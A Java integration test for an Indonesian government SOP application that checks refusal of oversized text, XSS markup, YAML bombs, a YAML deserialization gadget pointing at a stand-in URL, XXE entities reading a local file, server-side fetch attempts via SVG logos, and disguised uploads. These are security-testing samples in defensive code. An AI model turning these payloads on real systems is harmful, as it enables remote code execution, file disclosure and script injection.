package id.baku;

import id.baku.compliance.ComplianceCharts;
import id.baku.compliance.EvaluationInput;
import id.baku.compliance.EvaluationService;
import id.baku.compliance.HalfYear;
import id.baku.compliance.MonitoringAnswer;
import id.baku.compliance.MonitoringService;
import id.baku.compliance.StepFigure;
import id.baku.design.Executor;
import id.baku.design.Outcome;
import id.baku.design.QualityStandard;
import id.baku.design.Signer;
import id.baku.design.SopContent;
import id.baku.design.SopProblem;
import id.baku.design.SopService;
import id.baku.design.SopVersionRecord;
import id.baku.design.Step;
import id.baku.design.TemplateService;
import id.baku.execution.Completion;
import id.baku.execution.EffectiveSops;
import id.baku.execution.ExecutionService;
import id.baku.execution.RunRecord;
import id.baku.execution.StepRecord;
import id.baku.execution.StepStatus;
import id.baku.ratification.RatificationService;
import id.baku.report.ReportService;
import id.baku.security.AppRole;
import id.baku.shared.InvalidInputException;
import id.baku.shared.yaml.YamlDataException;
import id.baku.shared.yaml.YamlMap;
import id.baku.tenant.ApiTokenService;
import id.baku.tenant.HeldPosition;
import id.baku.tenant.LegalBasisKind;
import id.baku.tenant.LegalBasisRecord;
import id.baku.tenant.LegalBasisService;
import id.baku.tenant.OrganisationService;
import id.baku.tenant.PositionRecord;
import id.baku.tenant.TenantLogo;
import id.baku.tenant.TenantService;
import id.baku.tenant.UnitKind;
import id.baku.tenant.UnitRecord;
import id.baku.tenant.UserRecord;
import id.baku.tenant.UserService;
import id.baku.testing.ApiCalls;
import id.baku.testing.IntegrationTest;
import id.baku.testing.SignIn;
import id.baku.testing.TenantSnapshots;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.function.Executable;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

/**
 * Hostile and malformed input through the services and the API: texts beyond their columns, markup in every
 * field (printed, drawn and served as text), YAML bombs and nonsense, uploads lying about their type, invalid
 * NIPs and dates out of range. Each is refused with a message naming what to fix, or kept as harmless text, and a
 * refusal leaves the pemda's rows exactly as they were.
 */
@IntegrationTest
class BadInputCorpusIntegrationTest {

    private static final String TANGERANG = "kota-tangerang";
    /** Markup for Jasper's styled text, HTML and SVG: each must come out as the characters typed. */
    private static final List<String> MARKUP = List.of("<style isBold=\"true\">tebal</style>",
            "<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "\"><svg onload=alert(3)>", "&amp; &lt;b&gt;");

    @Autowired SignIn signIn;
    @Autowired JdbcClient jdbc;
    @Autowired ApiCalls api;
    @Autowired OrganisationService organisation;
    @Autowired UserService users;
    @Autowired LegalBasisService legalBases;
    @Autowired ApiTokenService tokens;
    @Autowired SopService sops;
    @Autowired TemplateService templates;
    @Autowired RatificationService ratification;
    @Autowired ExecutionService execution;
    @Autowired MonitoringService monitoring;
    @Autowired EvaluationService evaluations;
    @Autowired ReportService reports;
    @Autowired TenantService tenants;

    private final List<Long> createdSops = new ArrayList<>();
    private long tenantId;

    @BeforeEach
    void setUp() {
        tenantId = jdbc.sql("select id from tenant where code = ?").param(TANGERANG).query(Long.class).single();
    }

    @AfterEach
    void tearDown() {
        SignIn.out();
        createdSops.forEach(id -> jdbc.sql("delete from sop where id = ?").param(id).update());
    }

    // ---- oversized texts ----

    @Test
    void texts_longer_than_their_columns_are_refused_naming_the_field_and_nothing_is_stored() {
        signIn.as("admin.tangerang");
        long unit = organisation.listUnits().getFirst().id();
        Map<String, String> before = snapshot();
        refused("name", () -> organisation.saveUnit(new UnitRecord(null, null, "U".repeat(256), UnitKind.BAGIAN, 0)));
        refused("name", () -> organisation.savePosition(new PositionRecord(null, unit, "J".repeat(256), false, 0)));
        refused("title", () -> legalBases.save(new LegalBasisRecord(null, LegalBasisKind.PERWAL, "Wali Kota", "1", 2020,
                "T".repeat(1001), 0)));
        refused("issuer", () -> legalBases.save(new LegalBasisRecord(null, LegalBasisKind.PERWAL, "I".repeat(256), "1",
                2020, "Judul", 0)));
        refused("number", () -> legalBases.save(new LegalBasisRecord(null, LegalBasisKind.PERWAL, "Wali Kota",
                "9".repeat(51), 2020, "Judul", 0)));
        refused("fullName", () -> users.createUser(user("panjang.sekali", "N".repeat(201), null, null), "rahasia-123"));
        refused("username", () -> users.createUser(user("u".repeat(101), "Nama", null, null), "rahasia-123"));
        refused("email", () -> users.createUser(user("surel.panjang", "Nama", null, "a".repeat(250) + "@x.id"), "rahasia-123"));
        refused("name", () -> tokens.create("T".repeat(1000), null));
        SopContent peliputan = peliputanContent();
        refused("title", () -> sops.create(unit, withIdentity(peliputan, peliputan.number(), peliputan.createdOn(),
                peliputan.revisedOn(), peliputan.effectiveOn(), peliputan.approvedBy(), "S".repeat(501))));
        refused("number", () -> sops.create(unit, withIdentity(peliputan, "1".repeat(101), peliputan.createdOn(),
                peliputan.revisedOn(), peliputan.effectiveOn(), peliputan.approvedBy(), peliputan.title())));
        assertThat(snapshot()).isEqualTo(before);
    }

    @Test
    void a_password_longer_than_bcrypt_takes_is_refused_counting_bytes_not_characters() {
        signIn.as("admin.tangerang");
        String password = "kata sandi \u00e4".repeat(6);
        assertThat(password).hasSize(72);
        long staff = users.listUsers().stream().filter(u -> u.username().equals("staf.peliputan.tangerang"))
                .findFirst().orElseThrow().id();
        Map<String, String> before = snapshot();
        refused("password", () -> users.createUser(user("sandi.panjang", "Nama", null, null), password));
        refused("password", () -> users.resetPassword(staff, password));
        assertThat(snapshot()).isEqualTo(before);
    }

    @Test
    void long_texts_inside_an_sop_are_kept_in_the_draft_but_named_as_problems_and_block_submission() {
        signIn.as("admin.tangerang");
        SopContent c = peliputanContent();
        String tooLong = "x".repeat(2001);
        SopContent content = new SopContent(c.number(), c.createdOn(), c.revisedOn(), c.effectiveOn(),
                new Signer(null, "P".repeat(301), "N".repeat(301), null), c.title(), c.legalBasisIds(),
                List.of(tooLong), c.related(), List.of(tooLong), List.of(tooLong), List.of(tooLong), tooLong,
                List.of(tooLong), List.of(tooLong), c.executors(), withActivity(c.steps(), tooLong));
        SopVersionRecord draft = create(content);
        assertThat(draft.problems()).extracting(SopProblem::field).contains("approvedBy.position", "approvedBy.name",
                "summary", "step.1.activity");
        Map<String, String> before = snapshot();
        assertThatThrownBy(() -> ratification.submit(draft.versionId(), draft.version()))
                .isInstanceOf(InvalidInputException.class);
        assertThat(snapshot()).isEqualTo(before);

        // Each item within its limit, but together more than a run can copy into its step.
        List<Step> steps = new ArrayList<>(c.steps());
        Step s = steps.getFirst();
        steps.set(0, new Step(s.activity(), s.executor(), s.kind(), s.yes(), s.no(), new QualityStandard(
                java.util.Collections.nCopies(70, "k".repeat(1000)), s.standard().minutes(), s.standard().unit(),
                s.standard().output()), s.notes(), s.extra()));
        SopVersionRecord many = create(new SopContent(c.number(), c.createdOn(), c.revisedOn(), c.effectiveOn(),
                c.approvedBy(), c.title(), c.legalBasisIds(), c.qualifications(), c.related(), c.equipment(),
                c.warnings(), c.recordKeeping(), c.summary(), c.purposes(), c.definitions(), c.executors(), steps));
        assertThat(many.problems()).extracting(SopProblem::key).contains("sop.problem.requirements-too-long");
    }

    @Test
    void run_texts_longer_than_allowed_are_refused_and_leave_the_run_as_it_was() {
        long sopId = effectiveSop();
        signIn.as("kabid.dikp.tangerang");
        Map<String, String> before = snapshot();
        refused("title", () -> execution.start(sopId, "R".repeat(301), null));
        refused("reference", () -> execution.start(sopId, "Peliputan", "R".repeat(201)));
        assertThat(snapshot()).isEqualTo(before);
        RunRecord run = execution.start(sopId, "Peliputan batas panjang", null);
        StepRecord step = open(run.id());
        Map<String, String> started = snapshot();
        refused("output", () -> execution.complete(step.id(), step.version(), new Completion(List.of(true), "o".repeat(4001), null, null)));
        refused("note", () -> execution.complete(step.id(), step.version(), new Completion(List.of(true), "ok", "n".repeat(4001), null)));
        refused("fileName", () -> execution.addAttachment(step.id(), "f".repeat(252) + ".png", "image/png",
                new ByteArrayInputStream(PNG), PNG.length));
        assertThat(snapshot()).isEqualTo(started);
    }

    @Test
    void monev_notes_longer_than_allowed_are_refused() {
        long sopId = effectiveSop();
        signIn.as("kabid.dikp.tangerang");
        HalfYear half = HalfYear.of(LocalDate.now(ZoneId.of("Asia/Jakarta")));
        long form = monitoring.open(sops.latest(sopId).orElseThrow().unitId(), half);
        var m = monitoring.monitoring(form);
        long evaluation = evaluations.open(sopId, half.year());
        Map<String, String> before = snapshot();
        refused("note", () -> monitoring.save(form, m.version(), m.rows().stream()
                .map(r -> new MonitoringAnswer(r.id(), r.proposed(), "c".repeat(2001), null)).toList()));
        refused("recommendationNote", () -> evaluations.save(evaluation, evaluations.evaluation(evaluation).version(),
                new EvaluationInput(List.of(), null, "c".repeat(2001))));
        assertThat(snapshot()).isEqualTo(before);
    }

    @Test
    void a_jabatan_name_at_its_longest_fits_wherever_a_signed_form_copies_it() {
        long sopId = effectiveSop();
        signIn.as("admin.tangerang");
        PositionRecord kabid = organisation.listPositions().stream()
                .filter(p -> !users.holdersOf(p.id()).isEmpty() && users.holdersOf(p.id()).stream()
                        .anyMatch(u -> u.username().equals("kabid.dikp.tangerang")))
                .findFirst().orElseThrow();
        PositionRecord renamed = organisation.savePosition(new PositionRecord(kabid.id(), kabid.unitId(),
                "Kepala Bidang ".repeat(20).substring(0, 255), kabid.unitHead(), kabid.version()));
        try {
            signIn.as("kabid.dikp.tangerang");
            HalfYear half = HalfYear.of(LocalDate.now(ZoneId.of("Asia/Jakarta")));
            long form = monitoring.open(sops.latest(sopId).orElseThrow().unitId(), half);
            var m = monitoring.monitoring(form);
            assertThat(monitoring.finalise(form, m.version(), m.rows().stream()
                    .map(r -> new MonitoringAnswer(r.id(), r.proposed(), "Catatan", "Tindakan")).toList())
                    .monitorPosition()).isEqualTo(renamed.name());
            long evaluation = evaluations.open(sopId, half.year());
            var e = evaluations.evaluation(evaluation);
            assertThat(evaluations.finalise(evaluation, e.version(), new EvaluationInput(
                    e.answers().stream().map(a -> new id.baku.compliance.CriterionAnswer(a.criterion(), true, null)).toList(),
                    id.baku.compliance.Recommendation.KEEP, null)).evaluatorPosition()).isEqualTo(renamed.name());
            jdbc.sql("delete from monitoring_form where id = ?").param(form).update();
            jdbc.sql("delete from evaluation_form where id = ?").param(evaluation).update();
        } finally {
            signIn.as("admin.tangerang");
            organisation.savePosition(new PositionRecord(kabid.id(), kabid.unitId(), kabid.name(), kabid.unitHead(),
                    organisation.findPosition(kabid.id()).orElseThrow().version()));
        }
    }

    // ---- markup ----

    @Test
    void markup_in_every_field_is_printed_drawn_and_served_as_the_text_typed() throws Exception {
        signIn.as("admin.tangerang");
        SopContent c = peliputanContent();
        String all = String.join(" ", MARKUP);
        List<Step> steps = new ArrayList<>();
        for (Step s : c.steps()) {
            steps.add(new Step(all, s.executor(), s.kind(),
                    s.yes() == null ? null : new Outcome("<b>ya</b>", s.yes().target()),
                    s.no() == null ? null : new Outcome("<i>tidak</i>", s.no().target()),
                    new QualityStandard(List.copyOf(MARKUP), s.standard().minutes(), s.standard().unit(), all),
                    all, s.extra()));
        }
        List<Executor> executors = c.executors().stream().map(e -> new Executor(e.positionId(), e.label() + " <u>x</u>")).toList();
        SopContent hostile = new SopContent(MARKUP.get(4), c.createdOn(), c.revisedOn(), c.effectiveOn(),
                new Signer(null, MARKUP.get(0), MARKUP.get(1), null), all, c.legalBasisIds(), MARKUP, c.related(),
                MARKUP, MARKUP, MARKUP, all, MARKUP, MARKUP, executors, steps, c.scope(), c.custom());
        SopVersionRecord draft = create(hostile);

        String sheet = pdfText(reports.sheet(draft.versionId()).pdf());
        for (String text : MARKUP) {
            assertThat(sheet).as("the sheet prints the characters typed").contains(text);
        }

        String token = tokens.create("Uji markup", null).secret();
        MockHttpServletResponse json = api.call(get("/api/v1/sops/" + draft.sopId()), token);
        assertThat(json.getContentType()).startsWith("application/json");
        assertThat(json.getHeader("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(ApiCalls.json(json).findValue("title").asString()).isEqualTo(all);

        MockHttpServletResponse svg = api.call(get("/api/v1/sops/" + draft.sopId() + "/flowchart.svg"), token);
        String drawing = svg.getContentAsString(StandardCharsets.UTF_8);
        assertThat(svg.getStatus()).isEqualTo(200);
        assertThat(drawing).doesNotContain("<script", "<img", "<svg onload", "<b>", "<u>").contains("&lt;u&gt;x&lt;/u&gt;");

        // The compliance dashboard puts its charts in the page as markup too; step labels are the SOP's text.
        String chart = ComplianceCharts.stepTimes(List.of(new StepFigure(draft.sopId(), all, 1, all, 3, 1, 2, 0, 0,
                12.5, 20.0, 10)), key -> key, StepFigure::activity, 600, 300);
        assertThat(chart).doesNotContain("<script", "<img", "<svg onload", "<style isBold");
    }

    @Test
    void markup_in_names_and_notes_of_the_monev_forms_is_printed_as_typed() throws Exception {
        long sopId = effectiveSop();
        signIn.as("kabid.dikp.tangerang");
        HalfYear half = HalfYear.of(LocalDate.now(ZoneId.of("Asia/Jakarta")));
        long form = monitoring.open(sops.latest(sopId).orElseThrow().unitId(), half);
        var m = monitoring.monitoring(form);
        monitoring.save(form, m.version(), m.rows().stream()
                .map(r -> new MonitoringAnswer(r.id(), r.proposed(), MARKUP.get(0), MARKUP.get(1))).toList());
        long evaluation = evaluations.open(sopId, half.year());
        evaluations.save(evaluation, evaluations.evaluation(evaluation).version(),
                new EvaluationInput(List.of(), null, MARKUP.get(0)));
        assertThat(pdfText(reports.monitoringForm(form).bytes())).contains(MARKUP.get(0), MARKUP.get(1));
        assertThat(pdfText(reports.evaluationForm(evaluation).bytes())).contains(MARKUP.get(0));
        jdbc.sql("delete from monitoring_form where id = ?").param(form).update();
        jdbc.sql("delete from evaluation_form where id = ?").param(evaluation).update();
    }

    // ---- YAML ----

    /** Documents no import may choke on: each must end in a message naming the problem, quickly. */
    private static Map<String, String> hostileYaml() {
        Map<String, String> docs = new LinkedHashMap<>();
        StringBuilder laughs = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i < 10; i++) {
            laughs.append("a").append(i).append(": &a").append(i).append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(9, "*a" + (i - 1)))).append("]\n");
        }
        docs.put("billion laughs", laughs + "title: *a9\n");
        StringBuilder fewLaughs = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i < 5; i++) {
            fewLaughs.append("a").append(i).append(": &a").append(i).append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(9, "*a" + (i - 1)))).append("]\n");
        }
        docs.put("laughs under the alias limit", fewLaughs + "title: Uji\nsteps: *a4\n");
        docs.put("recursive alias", "title: Uji\nsteps: &s [*s]\nqualifications: &q [*q, *q]\n");
        docs.put("recursive mapping", "title: Uji\nidentity: &m {a: *m}\n");
        docs.put("deep nesting", "title: Uji\nsteps: " + "[".repeat(5000) + "]".repeat(5000) + "\n");
        docs.put("deep mappings", "title: Uji\nsteps:\n" + "{a: ".repeat(3000) + "1" + "}".repeat(3000) + "\n");
        docs.put("huge document", "title: " + "x".repeat(4 * 1024 * 1024) + "\n");
        docs.put("many keys", "title: Uji\n" + "k: v\n".repeat(2));
        docs.put("title as a list", "title: [a, b]\n");
        docs.put("steps as text", "title: Uji\nsteps: hello\n");
        docs.put("steps as numbers", "title: Uji\nsteps: [1, 2]\n");
        docs.put("date nonsense", "title: Uji\ncreated: 31-31-2024\n");
        docs.put("java tag", "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
        docs.put("binary tag", "title: !!binary aGVsbG8=\n");
        docs.put("top-level list", "- a\n- b\n");
        docs.put("top-level scalar", "hanya teks\n");
        docs.put("empty", "");
        docs.put("only a document marker", "---\n...\n");
        docs.put("tab indentation", "title: Uji\nsteps:\n\t- a\n");
        docs.put("unclosed quote", "title: \"Uji\n");
        docs.put("null byte", "title: Uji\u0000\n");
        docs.put("two documents", "title: A\n---\ntitle: B\n");
        return docs;
    }

    @Test
    void hostile_yaml_is_refused_by_every_import_with_a_message_and_stores_nothing() {
        signIn.as("admin.tangerang");
        Map<String, String> before = snapshot();
        hostileYaml().forEach((what, doc) -> {
            byte[] bytes = doc.getBytes(StandardCharsets.UTF_8);
            assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
                signIn.as("admin.tangerang");
                assertThatThrownBy(() -> sops.importYaml(what + ".yaml", new ByteArrayInputStream(bytes)))
                        .as(what).isInstanceOfAny(YamlDataException.class, InvalidInputException.class);
                assertThatThrownBy(() -> templates.importYaml(what + ".yaml", new ByteArrayInputStream(bytes)))
                        .as(what).isInstanceOfAny(YamlDataException.class, InvalidInputException.class);
            }, what);
        });
        assertThat(problem("billion laughs")).isEqualTo("yaml.too-complex");
        assertThat(problem("deep nesting")).isEqualTo("yaml.too-complex");
        assertThat(problem("huge document")).isEqualTo("yaml.too-large");
        byte[] invalidUtf8 = {'t', 'i', 't', 'l', 'e', ':', ' ', (byte) 0xc3, (byte) 0x28, '\n'};
        assertThatThrownBy(() -> sops.importYaml("utf8.yaml", new ByteArrayInputStream(invalidUtf8)))
                .isInstanceOfSatisfying(YamlDataException.class, e -> assertThat(e.problemKey()).isEqualTo("yaml.not-utf8"));
        assertThat(snapshot()).isEqualTo(before);
    }

    private static String problem(String hostileDocument) {
        byte[] bytes = hostileYaml().get(hostileDocument).getBytes(StandardCharsets.UTF_8);
        try {
            YamlMap.parse(hostileDocument, new ByteArrayInputStream(bytes));
        } catch (YamlDataException e) {
            return e.problemKey();
        }
        throw new AssertionError(hostileDocument + " was read");
    }

    // ---- uploads ----

    @Test
    void uploads_lying_about_their_type_or_size_are_refused_and_nothing_is_stored() throws Exception {
        long sopId = effectiveSop();
        signIn.as("kabid.dikp.tangerang");
        RunRecord run = execution.start(sopId, "Peliputan unggahan", null);
        StepRecord step = open(run.id());
        byte[] pdf = "%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF".getBytes(StandardCharsets.ISO_8859_1);
        byte[] exe = "MZ\u0090\u0000 program".getBytes(StandardCharsets.ISO_8859_1);
        byte[] zip = {'P', 'K', 3, 4, 20, 0, 0, 0, 8, 0, 0, 0, 0, 0};
        byte[] html = "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8);
        byte[] svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".getBytes(StandardCharsets.UTF_8);
        Map<String, String> before = snapshot();
        long files = storedFiles();
        record Upload(String name, String type, byte[] bytes, long size) {
        }
        for (Upload u : List.of(
                new Upload("photo.jpg", "image/jpeg", exe, exe.length),
                new Upload("laporan.png", "image/png", pdf, pdf.length),
                new Upload("foto.png", "application/pdf", PNG, PNG.length),
                new Upload("laporan.pdf", "application/pdf", zip, zip.length),
                new Upload("laporan.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", zip, zip.length),
                new Upload("halaman.jpg", "image/jpeg", html, html.length),
                new Upload("gambar.svg", "image/svg+xml", svg, svg.length),
                new Upload("kosong.png", "image/png", new byte[0], 0),
                new Upload("besar.png", "image/png", PNG, 26L * 1024 * 1024))) {
            assertThatThrownBy(() -> execution.addAttachment(step.id(), u.name(), u.type(), new ByteArrayInputStream(u.bytes()), u.size()))
                    .as(u.name()).isInstanceOfSatisfying(InvalidInputException.class, e -> assertThat(e.messageKey())
                            .isIn("execution.error.attachment-type", "execution.error.attachment-size"));
        }
        assertThat(snapshot()).isEqualTo(before);
        assertThat(storedFiles()).isEqualTo(files);
    }

    @Test
    void a_logo_must_be_the_image_it_claims_and_an_svg_logo_reaches_nothing_outside_when_printed() throws Exception {
        signIn.as("admin.tangerang");
        TenantLogo logoBefore = tenants.currentLogo().orElseThrow();
        // An SVG is XML: no entity may read a file and no reference may make the server fetch an address.
        java.util.concurrent.atomic.AtomicInteger fetched = new java.util.concurrent.atomic.AtomicInteger();
        com.sun.net.httpserver.HttpServer server = com.sun.net.httpserver.HttpServer.create(
                new java.net.InetSocketAddress("127.0.0.1", 0), 0);
        server.createContext("/", exchange -> {
            fetched.incrementAndGet();
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
        });
        server.start();
        java.nio.file.Path secret = java.nio.file.Files.createTempFile("baku-secret", ".txt");
        java.nio.file.Files.writeString(secret, "RAHASIASERVER");
        String url = "http://127.0.0.1:" + server.getAddress().getPort() + "/";
        List<String> hostile = List.of(
                "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"" + secret.toUri() + "\">]>"
                        + "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><text y=\"9\">&x;</text></svg>",
                "<?xml version=\"1.0\"?><!DOCTYPE svg SYSTEM \"" + url + "dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
                "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"10\" height=\"10\">"
                        + "<image xlink:href=\"" + url + "image.png\" width=\"10\" height=\"10\"/></svg>",
                "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><image href=\"" + secret.toUri()
                        + "\" width=\"10\" height=\"10\"/><use href=\"" + url + "use.svg#a\"/></svg>",
                "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><style>@import url(" + url
                        + "style.css);</style><rect width=\"10\" height=\"10\" style=\"fill:url(" + url + "fill#p)\"/></svg>");
        SopVersionRecord draft = create(peliputanContent());
        try {
            tenants.updateLogo(("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">"
                    + "<defs><linearGradient id=\"g\"/></defs><rect width=\"10\" height=\"10\" style=\"fill:url(#g)\"/></svg>")
                    .getBytes(StandardCharsets.UTF_8), "image/svg+xml");
            assertThat(pdfText(reports.sheet(draft.versionId()).pdf())).as("a self-contained SVG logo prints").isNotBlank();
            tenants.updateLogo(logoBefore.bytes(), logoBefore.contentType());
            for (String svg : hostile) {
                try {
                    tenants.updateLogo(svg.getBytes(StandardCharsets.UTF_8), "image/svg+xml");
                } catch (InvalidInputException refused) {
                    continue;
                }
                String sheet = pdfText(reports.sheet(draft.versionId()).pdf());
                assertThat(sheet).as(svg).doesNotContain("RAHASIASERVER");
            }
            assertThat(fetched.get()).as("requests the printing made to the address in a logo").isZero();
        } finally {
            server.stop(0);
            java.nio.file.Files.deleteIfExists(secret);
            tenants.removeLogo();
            jdbc.sql("update tenant set logo = ?, logo_content_type = ? where id = ?")
                    .params(logoBefore.bytes(), logoBefore.contentType(), tenantId).update();
        }

        Map<String, String> before = snapshot();
        byte[] html = "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8);
        byte[] exe = "MZ\u0090\u0000 program".getBytes(StandardCharsets.ISO_8859_1);
        byte[] notSvg = "<html><body>bukan svg</body></html>".getBytes(StandardCharsets.UTF_8);
        for (var logo : Map.of("image/png", html, "image/jpeg", exe, "image/svg+xml", notSvg).entrySet()) {
            assertThatThrownBy(() -> tenants.updateLogo(logo.getValue(), logo.getKey())).as(logo.getKey())
                    .isInstanceOfSatisfying(InvalidInputException.class, e -> assertThat(e.field()).isEqualTo("logo"));
        }
        assertThatThrownBy(() -> tenants.updateLogo(PNG, "image/jpeg")).isInstanceOf(InvalidInputException.class);
        assertThat(snapshot()).isEqualTo(before);
    }

    // ---- NIP and dates ----

    @Test
    void invalid_nips_are_refused_naming_the_problem() {
        signIn.as("admin.tangerang");
        Map<String, String> before = snapshot();
        for (String nip : List.of("123", "abcdefghijklmnopqr", "19661319 198610 2 003", "19660419 198613 2 003",
                "19660419 198610 3 003", "99990419 198610 2 003", "19660419 195010 2 003", "196604191986102003 1",
                "<script>alert(1)</script>")) {
            assertThatThrownBy(() -> users.createUser(user("nip.salah", "Nama", nip, null), "rahasia-123"))
                    .as(nip).isInstanceOfSatisfying(InvalidInputException.class, e -> {
                        assertThat(e.field()).isEqualTo("nip");
                        assertThat(e.messageKey()).startsWith("nip.error.");
                    });
        }
        assertThat(snapshot()).isEqualTo(before);
        SopContent c = peliputanContent();
        SopVersionRecord draft = create(withIdentity(c, c.number(), c.createdOn(), c.revisedOn(), c.effectiveOn(),
                new Signer(null, "Sekretaris Daerah", "Nama", "123"), c.title()));
        assertThat(draft.problems()).extracting(SopProblem::field).contains("approvedBy.nip");
    }

    @Test
    void dates_out_of_range_are_named_as_problems_or_refused() {
        signIn.as("admin.tangerang");
        SopContent c = peliputanContent();
        for (LocalDate[] dates : List.of(
                new LocalDate[]{LocalDate.of(1, 1, 1), null, LocalDate.of(1, 1, 2)},
                new LocalDate[]{LocalDate.of(2024, 1, 1), null, LocalDate.of(9999, 12, 31)},
                new LocalDate[]{LocalDate.of(2024, 5, 1), LocalDate.of(2024, 4, 1), LocalDate.of(2024, 3, 1)})) {
            SopVersionRecord draft = create(withIdentity(c, c.number(), dates[0], dates[1], dates[2], c.approvedBy(),
                    c.title()));
            assertThat(draft.problems()).as(java.util.Arrays.toString(dates)).extracting(SopProblem::field)
                    .containsAnyOf("createdOn", "revisedOn", "effectiveOn");
        }
        // An effective date already past when the SOP is signed: it takes effect on the day it is signed.
        SopVersionRecord past = create(withIdentity(c, null, LocalDate.of(2020, 1, 1), null, LocalDate.of(2020, 1, 2),
                c.approvedBy(), c.title()));
        ratification.submit(past.versionId(), past.version());
        signIn.as("kabid.dikp.tangerang");
        ratification.approve(past.versionId(), sops.version(past.versionId()).orElseThrow().version(), null);
        signIn.as("kadiskominfo.tangerang");
        ratification.ratify(past.versionId(), sops.version(past.versionId()).orElseThrow().version(), "baku-demo");
        assertThat(sops.version(past.versionId()).orElseThrow().content().effectiveOn())
                .isEqualTo(LocalDate.now(ZoneId.of("Asia/Jakarta")));

        long sopId = effectiveSop();
        signIn.as("kabid.dikp.tangerang");
        long unit = sops.latest(sopId).orElseThrow().unitId();
        Map<String, String> before = snapshot();
        for (HalfYear period : List.of(new HalfYear(1, 1), new HalfYear(9999, 2))) {
            assertThatThrownBy(() -> monitoring.open(unit, period)).as(period.toString()).isInstanceOf(InvalidInputException.class);
        }
        for (int year : List.of(1, 9999)) {
            assertThatThrownBy(() -> evaluations.open(sopId, year)).as("" + year).isInstanceOf(InvalidInputException.class);
        }
        assertThat(snapshot()).isEqualTo(before);
    }

    // ---- helpers ----

    private static final byte[] PNG = java.util.Base64.getDecoder().decode(
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

    private Map<String, String> snapshot() {
        return TenantSnapshots.of(jdbc, tenantId);
    }

    private static String pdfText(byte[] pdf) throws IOException {
        try (PDDocument document = Loader.loadPDF(pdf)) {
            return new PDFTextStripper().getText(document).replace('\u00a0', ' ').replaceAll("\\s+", " ");
        }
    }

    private long storedFiles() throws IOException {
        java.nio.file.Path root = java.nio.file.Path.of("target/test-db/attachments");
        if (!java.nio.file.Files.exists(root)) {
            return 0;
        }
        try (var walk = java.nio.file.Files.walk(root)) {
            return walk.filter(java.nio.file.Files::isRegularFile).count();
        }
    }

    private static void refused(String field, Executable call) {
        assertThatThrownBy(call::execute).as(field).isInstanceOfSatisfying(InvalidInputException.class,
                e -> assertThat(e.field()).as(e.messageKey()).isEqualTo(field));
    }

    private static UserRecord user(String username, String fullName, String nip, String email) {
        return new UserRecord(null, username, fullName, nip, email, true, false, Set.of(AppRole.STAFF), List.<HeldPosition>of(), 0);
    }

    private SopContent peliputanContent() {
        long seed = sops.list(new id.baku.design.SopQuery(null, "Peliputan dan Publikasi", null)).getFirst().sopId();
        return sops.latest(seed).orElseThrow().content();
    }

    private long peliputanUnit() {
        return sops.list(new id.baku.design.SopQuery(null, "Peliputan dan Publikasi", null)).getFirst().unitId();
    }

    private SopVersionRecord create(SopContent content) {
        SopVersionRecord draft = sops.create(peliputanUnit(), content);
        createdSops.add(draft.sopId());
        return draft;
    }

    private long effectiveSop() {
        long sopId = EffectiveSops.peliputan(signIn, sops, ratification);
        createdSops.add(sopId);
        return sopId;
    }

    private StepRecord open(long runId) {
        return execution.run(runId).steps().stream().filter(s -> s.status() != StepStatus.DONE).findFirst().orElseThrow();
    }

    /** The SOP with another identity: Nomor SOP, dates, Disahkan oleh and title. */
    private static SopContent withIdentity(SopContent c, String number, LocalDate createdOn, LocalDate revisedOn,
                                           LocalDate effectiveOn, Signer approvedBy, String title) {
        return new SopContent(number, createdOn, revisedOn, effectiveOn, approvedBy, title, c.legalBasisIds(),
                c.qualifications(), c.related(), c.equipment(), c.warnings(), c.recordKeeping(), c.summary(),
                c.purposes(), c.definitions(), c.executors(), c.steps(), c.scope(), c.custom());
    }

    private static List<Step> withActivity(List<Step> steps, String activity) {
        List<Step> changed = new ArrayList<>(steps);
        Step s = steps.getFirst();
        changed.set(0, new Step(activity, s.executor(), s.kind(), s.yes(), s.no(), s.standard(), s.notes(), s.extra()));
        return changed;
    }
}
